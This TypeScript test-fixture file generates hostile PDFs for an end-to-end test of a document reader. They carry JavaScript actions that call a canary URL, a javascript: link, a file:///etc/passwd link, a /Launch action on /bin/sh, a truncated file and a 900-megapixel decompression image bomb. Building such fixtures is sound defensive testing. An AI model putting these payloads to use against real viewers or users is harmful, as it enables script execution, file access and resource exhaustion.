import { deflateSync } from 'node:zlib';
import {
  PDFArray,
  PDFDocument,
  PDFName,
  PDFString,
  StandardFonts,
  concatTransformationMatrix,
  drawObject,
  popGraphicsState,
  pushGraphicsState,
  type PDFDict,
  type PDFPage,
} from 'pdf-lib';

/**
 * Hostile PDFs for tests/e2e/hostilePdf.spec.ts, made at test time (nothing binary is
 * committed). Each passes the server's upload check (server/src/pdf/inspectPdf.ts: %PDF-,
 * %%EOF, pages, not encrypted), so it reaches the reader the way any paper does.
 */

const A4: [number, number] = [595, 842];

async function pageWithText(title: string): Promise<{ doc: PDFDocument; page: PDFPage }> {
  const doc = await PDFDocument.create();
  doc.setTitle(title);
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage(A4);
  page.drawText(title, { x: 72, y: 760, size: 16, font });
  return { doc, page };
}

function jsAction(doc: PDFDocument, js: string): PDFDict {
  return doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(js) });
}

/**
 * JavaScript everywhere a viewer might run it: the document's /OpenAction, its /Names
 * /JavaScript tree, the page's /AA (open, close) and a widget-less link's action. The script
 * would set `window.__pdfScriptRan`, raise dialogs and call `canaryUrl` — none may happen.
 */
export async function javascriptActionsPdf(canaryUrl: string): Promise<Uint8Array> {
  const { doc, page } = await pageWithText('JavaScript actions');
  const js = [
    'try { window.__pdfScriptRan = true; } catch (e) {}',
    'try { globalThis.__pdfScriptRan = true; } catch (e) {}',
    `try { app.launchURL("${canaryUrl}/launch", true); } catch (e) {}`,
    `try { this.getURL("${canaryUrl}/geturl"); } catch (e) {}`,
    `try { this.submitForm("${canaryUrl}/submit"); } catch (e) {}`,
    'try { app.alert("pdf script ran"); } catch (e) {}',
  ].join('\n');
  const ctx = doc.context;
  doc.catalog.set(PDFName.of('OpenAction'), ctx.register(jsAction(doc, js)));
  doc.catalog.set(
    PDFName.of('Names'),
    ctx.obj({
      JavaScript: ctx.obj({ Names: [PDFString.of('boot'), ctx.register(jsAction(doc, js))] }),
    }),
  );
  page.node.set(
    PDFName.of('AA'),
    ctx.obj({ O: ctx.register(jsAction(doc, js)), C: ctx.register(jsAction(doc, js)) }),
  );
  const link = ctx.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [72, 600, 300, 640],
    Border: [0, 0, 0],
    A: jsAction(doc, js),
  });
  page.node.set(PDFName.of('Annots'), ctx.obj([ctx.register(link)]));
  return doc.save();
}

/** Rectangles (PDF user space) of the links in `linksPdf`, in order. */
export const LINK_RECTS = {
  javascript: [72, 640, 372, 680],
  file: [72, 560, 372, 600],
  launch: [72, 480, 372, 520],
  https: [72, 400, 372, 440],
} as const;

export const HTTPS_LINK = 'https://example.org/ecabinet-e2e';

/**
 * Link annotations with a `javascript:` URI, a `file:` URI, a /Launch action on a file, and
 * one ordinary https link: only the last may be offered to the member.
 */
export async function linksPdf(canaryUrl: string): Promise<Uint8Array> {
  const { doc, page } = await pageWithText('Links');
  const ctx = doc.context;
  const uri = (rect: readonly number[], target: string) =>
    ctx.register(
      ctx.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [...rect],
        Border: [0, 0, 1],
        A: ctx.obj({ Type: 'Action', S: 'URI', URI: PDFString.of(target) }),
      }),
    );
  const annots = PDFArray.withContext(ctx);
  annots.push(
    uri(
      LINK_RECTS.javascript,
      `javascript:window.__pdfScriptRan=true;fetch("${canaryUrl}/js-link");alert(1)`,
    ),
  );
  annots.push(uri(LINK_RECTS.file, 'file:///etc/passwd'));
  annots.push(
    ctx.register(
      ctx.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [...LINK_RECTS.launch],
        Border: [0, 0, 1],
        A: ctx.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('/bin/sh') }),
      }),
    ),
  );
  annots.push(uri(LINK_RECTS.https, HTTPS_LINK));
  page.node.set(PDFName.of('Annots'), annots);
  return doc.save();
}

/**
 * A three-page paper cut short after its first page object, with `%%EOF` put back at the end
 * (so the upload check passes): cross-reference table, trailer and later objects are gone.
 */
export async function truncatedPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (let i = 1; i <= 3; i += 1)
    doc.addPage(A4).drawText(`Truncated page ${i}`, { x: 72, y: 760, size: 16, font });
  const whole = Buffer.from(await doc.save({ useObjectStreams: false }));
  const text = whole.toString('latin1');
  const firstPage = /\/Type \/Page\b(?!s)/.exec(text);
  if (!firstPage) throw new Error('no page object in the generated PDF');
  const cut = Math.max(firstPage.index + 40, Math.floor(whole.length * 0.6));
  return Buffer.concat([whole.subarray(0, cut), Buffer.from('\n%%EOF\n', 'latin1')]);
}

/** Dimensions of the image bomb: 900 M pixels, 112.5 MB once inflated, ~110 KB in the file. */
export const BOMB = { width: 30_000, height: 30_000 } as const;

/**
 * An image bomb: a 30,000 × 30,000 1-bit image XObject whose Flate stream inflates ~1000:1,
 * drawn over the page. A viewer that decodes it whole spends memory and time without bound.
 */
export async function imageBombPdf(): Promise<Uint8Array> {
  const { doc, page } = await pageWithText('Image bomb');
  const raw = Buffer.alloc((BOMB.width / 8) * BOMB.height, 0x55);
  const image = doc.context.stream(deflateSync(raw, { level: 9 }), {
    Type: 'XObject',
    Subtype: 'Image',
    Width: BOMB.width,
    Height: BOMB.height,
    ColorSpace: 'DeviceGray',
    BitsPerComponent: 1,
    Filter: 'FlateDecode',
  });
  const name = page.node.newXObject('Bomb', doc.context.register(image));
  page.pushOperators(
    pushGraphicsState(),
    concatTransformationMatrix(450, 0, 0, 450, 72, 200),
    drawObject(name),
    popGraphicsState(),
  );
  return doc.save();
}
